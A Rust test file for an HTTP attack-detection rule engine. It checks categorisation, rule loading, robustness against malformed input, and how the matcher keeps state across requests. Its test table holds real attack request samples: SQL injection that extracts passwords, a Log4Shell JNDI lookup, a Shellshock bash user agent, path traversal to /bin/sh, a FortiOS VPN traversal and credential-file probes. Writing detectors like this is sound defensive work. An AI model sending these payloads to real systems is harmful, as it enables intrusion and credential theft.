//! Table tests of the matcher: (request, expected categories, expected tool).

use kansoku_detect::example::from_line;
use kansoku_detect::{LoadOptions, RuleSet};
use kansoku_event::HttpRequest;

fn req(line: &str, ua: &str) -> HttpRequest {
    let mut r = from_line(line);
    r.user_agent = Some(ua.to_string());
    r
}

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";

#[test]
fn requests_get_the_categories_a_user_expects() {
    let rules = RuleSet::builtin().expect("loads");
    let mut m = rules.matcher();
    let table: &[(&str, &str, &[&str], Option<&str>)] = &[
        (
            "GET /item?id=1%27%20UNION%2F**%2FSELECT%20password%20FROM%20users-- HTTP/1.1",
            BROWSER,
            &["sqli"],
            None,
        ),
        (
            "GET /?q=%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D HTTP/1.1",
            BROWSER,
            &["log4shell"],
            None,
        ),
        (
            "GET / HTTP/1.1",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
            &["scanner"],
            Some("nikto"),
        ),
        (
            "GET /.git/config HTTP/1.1",
            BROWSER,
            &["credential_probe"],
            None,
        ),
        (
            "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
            BROWSER,
            &["fortios_sslvpn"],
            None,
        ),
        (
            "GET /wp-config.php.bak HTTP/1.1",
            BROWSER,
            &["wordpress_config"],
            None,
        ),
        (
            "GET /iisadmpwd/aexp2.htr HTTP/1.1",
            BROWSER,
            &["admin_iis"],
            None,
        ),
        (
            "GET /dmsoc4j/AggreSpy HTTP/1.1",
            BROWSER,
            &["admin_oracle"],
            None,
        ),
        (
            "GET /search?q=%3Csvg%2Fonload%3Dalert(1)%3E HTTP/1.1",
            BROWSER,
            &["xss"],
            None,
        ),
        (
            "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
            BROWSER,
            &["path_traversal"],
            None,
        ),
        (
            "GET /cgi-bin/status HTTP/1.1",
            "() { :; }; /bin/bash -c 'id'",
            &["rce"],
            None,
        ),
        (
            "GET /uploads/c99.php HTTP/1.1",
            BROWSER,
            &["webshell"],
            None,
        ),
        ("GET /index.html HTTP/1.1", BROWSER, &[], None),
        (
            "GET /search?q=rock+and+roll&page=2 HTTP/1.1",
            BROWSER,
            &[],
            None,
        ),
    ];
    for (line, ua, cats, tool) in table {
        let mut r = req(line, ua);
        m.apply(&mut r);
        for c in *cats {
            assert!(
                r.categories.iter().any(|x| x == c),
                "{line}: expected {c}, got {:?}",
                r.categories
            );
        }
        if cats.is_empty() {
            assert!(
                r.categories.is_empty(),
                "{line}: expected nothing, got {:?} ({:?})",
                r.categories,
                r.rule_ids
            );
        }
        assert_eq!(r.tool.as_deref(), *tool, "{line}");
    }
}

#[test]
fn categories_are_deduplicated_and_apply_is_idempotent() {
    let rules = RuleSet::builtin().expect("loads");
    let mut m = rules.matcher();
    let mut r = req(
        "GET /x?id=1%27%20union%20select%201,2,3-- HTTP/1.1",
        BROWSER,
    );
    m.apply(&mut r);
    let first = (r.rule_ids.clone(), r.categories.clone());
    assert!(
        r.rule_ids.len() > 1,
        "several sqli rules fire: {:?}",
        r.rule_ids
    );
    assert_eq!(r.categories, vec!["sqli".to_string()]);
    m.apply(&mut r);
    assert_eq!((r.rule_ids.clone(), r.categories.clone()), first);
}

#[test]
fn explain_names_the_decoded_substring_and_zone() {
    let rules = RuleSet::builtin().expect("loads");
    let mut m = rules.matcher();
    let r = req(
        "GET /item?id=1%2527%2520UnIoN%2F**%2FsElEcT%2520x HTTP/1.1",
        BROWSER,
    );
    let hits = m.explain(&r);
    let union = hits
        .iter()
        .find(|h| h.rule_id == "sqli-union-select")
        .expect("union rule explained");
    assert_eq!(union.matched, "union select");
    assert!(
        union.decoded.contains("1' union select x"),
        "{}",
        union.decoded
    );
}

#[test]
fn a_broken_rule_file_warns_with_file_line_and_id_and_the_rest_loads() {
    let dir = tempfile::tempdir().expect("tempdir");
    let good = "id: local-good\ntitle: t\ncategory: rce\nseverity: low\nmatchers:\n  - contains: evilthing\n";
    let bad = "id: local-bad\ntitle: t\ncategory: rce\nseverity: low\nmatchers:\n  - regex: '(unclosed'\n";
    let typo =
        "id: local-typo\ntitle: t\ncategory: nosuch\nseverity: low\nmatchers:\n  - contains: x\n";
    std::fs::write(
        dir.path().join("a.yaml"),
        format!("{good}---\n{bad}---\n{typo}"),
    )
    .expect("write");
    let opts = LoadOptions {
        rule_dirs: vec![dir.path().to_path_buf()],
        ..LoadOptions::default()
    };
    let (rules, warnings) = RuleSet::load(&opts).expect("non-strict load succeeds");
    assert!(rules.rule("local-good").is_some());
    assert_eq!(warnings.len(), 2, "{warnings:?}");
    assert_eq!(warnings[0].rule_id.as_deref(), Some("local-bad"));
    assert_eq!(warnings[0].line, Some(8));
    assert!(warnings[0].file.ends_with("a.yaml"));
    assert!(
        warnings[1].message.contains("unknown category"),
        "{}",
        warnings[1].message
    );
    let strict = LoadOptions {
        strict: true,
        ..opts
    };
    assert!(RuleSet::load(&strict).is_err());
}

#[test]
fn hostile_input_never_panics() {
    let rules = RuleSet::builtin().expect("loads");
    let mut m = rules.matcher();
    for target in [
        "/%",
        "/%u",
        "/%uD800",
        "/&#",
        "/&#x110000;",
        "/?a=%ff%fe%c0%ae",
        "/\\..\\..",
        "/?=&&=&",
        "",
    ] {
        let mut r = req(&format!("GET {target} HTTP/1.1"), "\u{0}\u{ff}");
        m.apply(&mut r);
        let _ = m.explain(&r);
    }
}

/// The matcher remembers per zone which rules a text made candidates; verdicts must not
/// depend on what it saw before. Every inline example of every rule, run twice through
/// one matcher (the second time from memory) and interleaved with a benign request that
/// shares its agent, referer and host, must match exactly as with a fresh matcher.
#[test]
fn remembered_zones_never_change_a_verdict() {
    let (rules, _) = RuleSet::load(&LoadOptions {
        sigma_dirs: vec![std::path::PathBuf::from(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/fixtures/sigma"
        ))],
        ..LoadOptions::default()
    })
    .expect("loads");
    let examples: Vec<HttpRequest> = rules
        .rules()
        .iter()
        .flat_map(|r| r.examples_match.iter().chain(&r.examples_no_match))
        .map(|e| e.request.clone())
        .collect();
    assert!(examples.len() > 100, "{} examples", examples.len());
    let ids = |m: &mut kansoku_detect::Matcher, r: &HttpRequest| -> Vec<String> {
        m.matching_rules(r).iter().map(|x| x.id.clone()).collect()
    };
    let mut shared = rules.matcher();
    for pass in 0..2 {
        for ex in &examples {
            let mut benign = from_line("GET /products/12345 HTTP/1.1");
            benign.user_agent.clone_from(&ex.user_agent);
            benign.referer.clone_from(&ex.referer);
            benign.host.clone_from(&ex.host);
            let want = ids(&mut rules.matcher(), ex);
            assert_eq!(ids(&mut shared, ex), want, "pass {pass}: {ex:?}");
            let want_benign = ids(&mut rules.matcher(), &benign);
            assert_eq!(
                ids(&mut shared, &benign),
                want_benign,
                "pass {pass}: {benign:?}"
            );
        }
    }
}
